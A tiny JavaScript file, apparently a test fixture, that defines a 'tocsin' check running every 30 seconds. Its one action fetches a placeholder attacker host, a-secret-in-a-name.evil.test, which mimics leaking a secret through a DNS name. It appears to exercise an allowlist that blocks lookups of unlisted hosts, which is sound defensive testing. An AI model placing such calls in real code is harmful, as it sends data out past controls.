// A name that is not listed is not even looked up.
import { defineCheck } from "tocsin";

export default defineCheck({
  schedule: "every 30s",
  async run(ctx) {
    await fetch("http://a-secret-in-a-name.evil.test/");
  },
});
